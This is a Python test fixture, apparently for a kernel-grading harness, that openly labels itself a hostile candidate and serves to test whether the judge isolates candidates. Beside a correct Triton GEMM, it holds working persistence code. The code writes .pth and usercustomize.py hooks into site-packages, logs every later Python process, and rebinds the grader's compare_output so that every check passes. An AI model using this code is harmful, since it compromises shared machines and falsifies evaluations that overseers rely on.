"""HOSTILE candidate. Class: persistence (start-up hooks for every later Python).

What it does: computes C honestly; on its first GPU call it writes a .pth file and a usercustomize.py into the
user site-packages of its HOME (and a sitecustomize.py / .pth into any writable sys.path entry). Every later
Python process that reads them runs the hook: it records its command line in /tmp/hostile_pth_ran and, in a
process that imports xlang.profiler.worker, rebinds compare_output to always pass.

An honest judge must conclude: ok for this candidate; no file outside the candidate's private HOME/work folder
changed, /tmp/hostile_pth_ran is not written by any later process, and the NEXT candidate's verdict is unchanged
(next_probe stays incorrect).
"""
import site

import os
import sys

import torch
import triton
import triton.language as tl
from triton.tools.tensor_descriptor import TensorDescriptor

BM, BN, BK = 128, 128, 64


@triton.jit
def gemm_tc(a_desc, b_desc, c_desc, K, BM: tl.constexpr, BN: tl.constexpr, BK: tl.constexpr):
    # The honest part: one BMxBN tile of C = A·Bᵀ per program, TMA loads, tl.dot (wgmma), fp32 accumulation.
    off_m = tl.program_id(0) * BM
    off_n = tl.program_id(1) * BN
    acc = tl.zeros((BM, BN), dtype=tl.float32)
    for kb in range(0, tl.cdiv(K, BK)):
        a = a_desc.load([off_m, kb * BK])
        b = b_desc.load([off_n, kb * BK])
        acc = tl.dot(a, b.T, acc)
    c_desc.store([off_m, off_n], acc.to(tl.bfloat16))


def gemm(A, B, C, M, N, K, grid=None, k_used=None):
    a_desc = TensorDescriptor.from_tensor(A, [BM, BK])
    b_desc = TensorDescriptor.from_tensor(B, [BN, BK])
    c_desc = TensorDescriptor.from_tensor(C, [BM, BN])
    grid = grid or (triton.cdiv(M, BM), triton.cdiv(N, BN))
    gemm_tc[grid](a_desc, b_desc, c_desc, K if k_used is None else k_used, BM=BM, BN=BN, BK=BK,
                  num_warps=8, num_stages=3)


def armed():
    # Side effects (processes, files, secrets, signals) only on the GPU machine: never on a CPU build box,
    # where the static build runs this file with CPU tensors next to other people's work.
    return torch.cuda.is_available()

_done = []

HOOK = r'''
import os, sys
try:
    with open("/tmp/hostile_pth_ran", "a") as f:
        f.write(" ".join(sys.argv) + "\n")
except OSError:
    pass
class _Finder:
    def find_spec(self, name, path=None, target=None):
        if name != "xlang.profiler.worker":
            return None
        sys.meta_path.remove(self)
        import importlib.util
        spec = importlib.util.find_spec(name)
        run = spec.loader.exec_module
        def exec_module(module):
            run(module)
            module.compare_output = lambda n, g, e, a, r: {"output": n, "elements": g.numel(), "max_abs_err": 0.0,
                "max_rel_err": 0.0, "mismatches": 0, "nan": 0, "inf": 0}
        spec.loader.exec_module = exec_module
        return spec
sys.meta_path.insert(0, _Finder())
'''


def _write(folder, name, text):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, name), "w") as f:
            f.write(text)
    except OSError:
        pass


def _persist():
    pth_line = "import os; exec(open(os.path.join(%r, 'hostile_hook.py')).read())\n"
    folders = [site.getusersitepackages()] + [p for p in sys.path if p and os.path.isdir(p) and os.access(p, os.W_OK)]
    for folder in dict.fromkeys(folders):
        _write(folder, "hostile_hook.py", HOOK)
        _write(folder, "zz_hostile.pth", pth_line % folder)
        _write(folder, "usercustomize.py", HOOK)


def xlang_entry(A, B, C, M, N, K):
    if armed() and not _done:
        _done.append(True)
        _persist()
    gemm(A, B, C, M, N, K)
